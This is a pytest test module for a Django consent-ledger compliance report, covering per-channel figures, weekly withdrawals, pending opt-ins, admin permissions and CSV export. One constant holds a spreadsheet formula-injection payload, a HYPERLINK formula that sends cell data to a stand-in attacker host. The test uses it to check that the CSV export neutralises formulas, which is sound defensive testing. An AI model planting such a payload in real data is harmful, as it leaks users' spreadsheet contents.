"""The compliance report: exact figures for a hand-built fortnight, its page and its CSV."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.urls import reverse
from django.utils import timezone

from consent import ledger, services
from consent.models import LedgerVerification, Purpose
from consent.reports import compliance_report
from members.models import Brand
from tests.factories import BrandFactory, StoreFactory, make_members

pytestmark = pytest.mark.django_db

REPORT = reverse("admin:consent_report")
# Six grouped queries, the latest verification and the latest checkpoint.
REPORT_QUERIES = 8
HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"点我")'


def monday_two_weeks_ago() -> dt.date:
    today = timezone.localdate()
    return today - dt.timedelta(days=today.weekday() + 14)


def at(day: dt.date, hour: int = 10) -> dt.datetime:
    return timezone.make_aware(dt.datetime.combine(day, dt.time(hour)))


def record(member, brand, when, *, action="granted", channel="sms", source_type="store", **kw):
    return services.record_consent(
        member=member,
        brand=brand,
        purpose="marketing",
        channel=channel,
        action=action,
        source_type=source_type,
        occurred_at=when,
        **kw,
    ).event


@pytest.fixture
def fortnight(tmall, marketing_purpose):
    """Two ISO weeks of a brand's consents, plus events outside the period and another
    brand's, which the report must leave out. Returns the period's first Monday."""
    brand = tmall.brand
    monday = monday_two_weeks_ago()
    week_a, week_b = monday + dt.timedelta(days=1), monday + dt.timedelta(days=8)
    m = make_members(tmall, 6)
    # Week A: three SMS grants (two at the store, one imported), an e-mail double opt-in
    # completed by m0 and one left pending by m3.
    record(m[0], brand, at(week_a), store=tmall, source_ref="lotus-tmall")
    record(m[1], brand, at(week_a), store=tmall, source_ref="lotus-tmall")
    record(m[2], brand, at(week_a), source_type="import_job", source_ref="job-1")
    record(m[0], brand, at(week_a, 11), channel="email", action="requested", source_type="privacy_center")
    record(m[0], brand, at(week_a, 12), channel="email", action="confirmed", source_type="double_opt_in")
    record(m[3], brand, at(week_a, 11), channel="email", action="requested", source_type="privacy_center")
    # Week B: two withdrawals and one more store grant.
    record(m[0], brand, at(week_b), action="withdrawn", source_type="unsubscribe_link", source_ref=HYPERLINK)
    record(m[1], brand, at(week_b), action="withdrawn", source_type="privacy_center")
    record(m[4], brand, at(week_b), store=tmall, source_ref="lotus-tmall")
    # Outside: before the period, after it, and another brand inside it.
    record(m[5], brand, at(monday - dt.timedelta(days=20)))
    record(m[5], brand, timezone.now(), action="withdrawn", source_type="privacy_center")
    peony = BrandFactory(code="peony", name="牡丹")
    Purpose.objects.create(brand=peony, code="marketing", name="营销", channels=["sms"], is_marketing=True)
    services.publish_notice(brand=peony, kind="privacy_policy", locale="zh-hans", title="隐私政策", body="…")
    record(m[0], peony, at(week_b), action="withdrawn", source_type="privacy_center")
    return monday


def period(monday):
    return monday, monday + dt.timedelta(days=13)  # Monday to Sunday, both included


def test_figures_per_purpose_channel_and_source(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    rows = {
        (r["purpose__code"], r["channel"], r["source_type"]): (
            r["granted"],
            r["withdrawn"],
            r["requested"],
            r["confirmed"],
        )
        for r in report["by_purpose"]
    }
    assert rows == {
        ("marketing", "sms", "store"): (3, 0, 0, 0),
        ("marketing", "sms", "import_job"): (1, 0, 0, 0),
        ("marketing", "sms", "unsubscribe_link"): (0, 1, 0, 0),
        ("marketing", "sms", "privacy_center"): (0, 1, 0, 0),
        ("marketing", "email", "privacy_center"): (0, 0, 2, 0),
        ("marketing", "email", "double_opt_in"): (0, 0, 0, 1),
    }
    assert report["totals"] == {
        "granted": 4,
        "withdrawn": 2,
        "requested": 2,
        "confirmed": 1,
        "total": 9,
        "pending": 1,
    }


def test_withdrawals_per_iso_week(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    first, second = fortnight.isocalendar(), (fortnight + dt.timedelta(days=7)).isocalendar()
    assert report["withdrawals_by_week"] == [
        {"week": f"{first.year}-W{first.week:02d}", "starts": fortnight, "withdrawn": 0},
        {"week": f"{second.year}-W{second.week:02d}", "starts": fortnight + dt.timedelta(days=7), "withdrawn": 2},
    ]


def test_pending_double_opt_ins_and_sources(brand, fortnight):
    report = compliance_report(brand, *period(fortnight))
    [pending] = report["pending"]
    assert (pending["purpose__code"], pending["channel"], pending["count"]) == ("marketing", "email", 1)
    assert pending["expired"] == 1  # requested ≥ 8 days ago, confirmation links last 7
    sources = {(r["source_type"], r["source_ref"], r["store__code"]): r["total"] for r in report["sources"]}
    assert sources == {
        ("store", "lotus-tmall", "lotus-tmall"): 3,
        ("privacy_center", "", None): 3,
        ("import_job", "job-1", None): 1,
        ("unsubscribe_link", HYPERLINK, None): 1,
        ("double_opt_in", "", None): 1,
    }
    assert [r["total"] for r in report["sources"]] == [3, 3, 1, 1, 1]  # busiest first


def test_notice_versions_in_force(brand, marketing_purpose):
    services.publish_notice(
        brand=brand, kind="purpose_notice", purpose=marketing_purpose, locale="zh-hans", title="营销告知", body="v2"
    )
    services.publish_notice(brand=brand, kind="privacy_policy", locale="zh-hans", title="隐私政策", body="p1")
    [member] = make_members(StoreFactory(brand=brand, code="lotus-pos", platform="pos"), 1)
    services.record_consent(
        member=member, brand=brand, purpose="marketing", channel="sms", action="granted", source_type="store"
    )
    today = timezone.localdate()
    report = compliance_report(brand, today - dt.timedelta(days=29), today)
    in_force = {(n["kind"], n["purpose__code"], n["version"]) for n in report["notices"]}
    assert in_force == {("purpose_notice", "marketing", 2), ("privacy_policy", None, 1)}
    [used] = report["by_notice"]
    assert (used["notice__version"], used["in_force"], used["granted"]) == (2, True, 1)
    # A period that ended before anything was published has no notice in force.
    assert compliance_report(brand, today - dt.timedelta(days=9), today - dt.timedelta(days=1))["notices"] == []


def test_latest_verification_and_checkpoint(brand, fortnight):
    checkpoint = ledger.create_checkpoint()
    LedgerVerification.objects.create(ok=True, events_checked=12, checkpoint=checkpoint)
    report = compliance_report(brand, *period(fortnight))
    assert report["checkpoint"] == checkpoint
    assert report["verification"].events_checked == 12


@pytest.mark.parametrize("extra_weeks", [0, 20])
def test_report_cost_does_not_grow_with_events(
    brand, tmall, marketing_purpose, extra_weeks, django_assert_max_num_queries
):
    members = make_members(tmall, 5)
    monday = monday_two_weeks_ago()
    for week in range(extra_weeks):
        for member in members:
            record(member, brand, at(monday - dt.timedelta(days=7 * week)))
    with django_assert_max_num_queries(REPORT_QUERIES):
        compliance_report(brand, monday - dt.timedelta(days=7 * 20), monday + dt.timedelta(days=13))


# --- The admin page -------------------------------------------------------------------------------


def params(monday, **extra):
    since, until = period(monday)
    return {"since": since.isoformat(), "until": until.isoformat(), **extra}


def test_page_renders_for_a_privacy_officer(client, consent_officer, brand, fortnight):
    client.force_login(consent_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk))
    assert response.status_code == 200
    assert response.context["report"]["totals"]["total"] == 9
    page = response.content.decode()
    assert "lotus-tmall" in page and "job-1" in page
    changelist = client.get(reverse("admin:consent_consentevent_changelist")).content.decode()
    assert REPORT in changelist  # linked from the ledger


def test_page_defaults_to_the_last_30_days(client, consent_officer, brand, fortnight):
    client.force_login(consent_officer)
    form = client.get(REPORT).context["form"]
    today = timezone.localdate()
    assert form.cleaned_data["brand"] == Brand.objects.order_by("name").first()
    assert (form.cleaned_data["since"], form.cleaned_data["until"]) == (today - dt.timedelta(days=29), today)


def test_staff_without_the_ledger_permission_get_403(client, marketer, brand):
    client.force_login(marketer)
    assert client.get(REPORT).status_code == 403
    assert client.get(REPORT, {"format": "csv"}).status_code == 403


def test_a_reversed_period_is_a_form_error(client, consent_officer, brand):
    client.force_login(consent_officer)
    response = client.get(REPORT, {"brand": brand.pk, "since": "2025-03-10", "until": "2025-03-01"})
    assert response.status_code == 200
    assert response.context["report"] is None
    assert "until" in response.context["form"].errors


def read_csv(response) -> list[list[str]]:
    assert response["Content-Disposition"].startswith("attachment;")
    return list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode("utf-8-sig"))))


def test_csv_of_the_main_table(client, consent_officer, brand, fortnight):
    client.force_login(consent_officer)
    header, *rows = read_csv(client.get(REPORT, params(fortnight, brand=brand.pk, format="csv")))
    assert header == ["purpose", "channel", "source_type", "granted", "withdrawn", "requested", "confirmed", "total"]
    assert ["marketing", "sms", "store", "3", "0", "0", "0", "3"] in rows
    assert len(rows) == 6


def test_csv_neutralises_a_formula_in_a_source_reference(client, consent_officer, brand, fortnight):
    client.force_login(consent_officer)
    response = client.get(REPORT, params(fortnight, brand=brand.pk, format="csv", table="sources"))
    header, *rows = read_csv(response)
    assert header == ["source_type", "source_ref", "store", "granted", "withdrawn", "requested", "confirmed", "total"]
    refs = [row[1] for row in rows]
    assert "'" + HYPERLINK in refs
    assert HYPERLINK not in refs


def test_unknown_csv_table_is_404(client, consent_officer, brand, fortnight):
    client.force_login(consent_officer)
    assert client.get(REPORT, params(fortnight, brand=brand.pk, format="csv", table="members")).status_code == 404
